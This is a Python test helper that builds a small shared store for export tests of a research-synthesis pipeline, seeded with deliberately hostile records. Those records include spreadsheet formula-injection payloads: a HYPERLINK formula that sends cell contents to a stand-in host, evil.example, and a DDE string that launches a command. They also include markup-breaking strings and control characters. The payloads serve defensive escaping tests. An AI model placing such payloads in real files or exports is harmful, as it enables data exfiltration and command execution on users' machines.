"""The small store the hand-off tests (#25) share, and their export helper."""

from __future__ import annotations

import csv
from pathlib import Path

from pipelines import store
from pipelines.analysis.results import annotate_theme, rename_theme, themes_with_edits
from pipelines.analysis.run import run_analysis
from pipelines.cli import main
from pipelines.embed.embedders import HashEmbedder, embed_missing
from pipelines.ingest.files import ingest_paths

ROOT = Path(__file__).resolve().parent.parent
PER_FIELD = 24
HOSTILE_TITLE = '=HYPERLINK("http://evil.example","x") <b>Recovery</b> & "desistance" {50%} \\o/'
HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click") recovery means hope & <identity> ]]>',
    "+cmd|' /C calc'!A0 recovery housing work {braces} and 100% of #people",
    "@SUM(1+1) peer support \U0001f600 with an emoji and a quote's end",
]
# Written into the store directly: ingest drops control characters, but a store filled by
# another route (or an older version) may hold them, and XML cannot.
CONTROL_TEXT = "control\x01characters\x0b in\x1f text\r\nacross a CRLF recovery"


def _small_corpus(folder: Path) -> tuple[Path, Path]:
    """The first excerpts of each field of the bundled corpus, their sources, and a hostile source."""
    with open(ROOT / "corpus" / "excerpts.csv", encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    kept, per_field = [], {}
    for row in rows:
        if per_field.get(row["field"], 0) < PER_FIELD:
            per_field[row["field"]] = per_field.get(row["field"], 0) + 1
            kept.append(row)
    for i, text in enumerate(HOSTILE_TEXTS):
        kept.append(
            {
                "id": f"=evil{i}",
                "source_id": "evil",
                "field": "criminal_justice",
                "kind": "",
                "page": "",
                "text": text,
            }
        )
    with open(ROOT / "corpus" / "sources.csv", encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        columns = reader.fieldnames
        wanted = {r["source_id"] for r in kept}
        sources = [r for r in reader if r["source_id"] in wanted]
    sources.append(
        {c: "" for c in columns}
        | {
            "source_id": "evil",
            "authors": "=Evil, A.; O'Brien, B. & {Co}; Evil Corp & Sons",
            "year": "2020",
            "title": HOSTILE_TITLE,
            "venue": "@Journal <of> Tests",
            "evidence_type": "grey",
        }
    )
    excerpts_path, sources_path = folder / "excerpts.csv", folder / "sources.csv"
    for path, fieldnames, data in (
        (excerpts_path, list(kept[0]), kept),
        (sources_path, columns, sources),
    ):
        with open(path, "w", encoding="utf-8", newline="") as handle:
            writer = csv.DictWriter(handle, fieldnames=fieldnames)
            writer.writeheader()
            writer.writerows(data)
    return excerpts_path, sources_path


def build_small(tmp_path_factory) -> Path:
    """A small built store: a few bundled excerpts per field, a hostile source, a renamed theme
    with a hostile note, and one excerpt holding control characters. Built once per session and
    shared by the hand-off test modules (a test that changes it works on a copy)."""
    folder = tmp_path_factory.getbasetemp() / "handoff-small"
    path = folder / "store.sqlite"
    if (folder / "built").exists():
        return path
    folder.mkdir()
    conn = store.connect(path)
    excerpts_path, sources_path = _small_corpus(folder)
    ingest_paths(conn, [excerpts_path], sources_path=sources_path)
    embedder = HashEmbedder()
    embed_missing(conn, embedder)
    run_analysis(conn, embedder=embedder, frameworks=None, seed=3)
    theme = themes_with_edits(conn)[0][0]
    rename_theme(conn, theme.key, "=SUM(A1) <renamed> & \x02")
    annotate_theme(conn, theme.key, 'Note with <xml> & "quotes" ]]> =HYPERLINK("x")')
    target = conn.execute("SELECT id FROM excerpts ORDER BY id LIMIT 1").fetchone()[0]
    with store.transaction(conn):
        conn.execute("UPDATE excerpts SET text = ? WHERE id = ?", (CONTROL_TEXT, target))
    (folder / "built").touch()
    return path


def export_file(db: Path, what: str, out: Path, *extra: str) -> Path:
    assert main(["export", what, "--db", str(db), "--out", str(out), *extra]) == 0
    return out
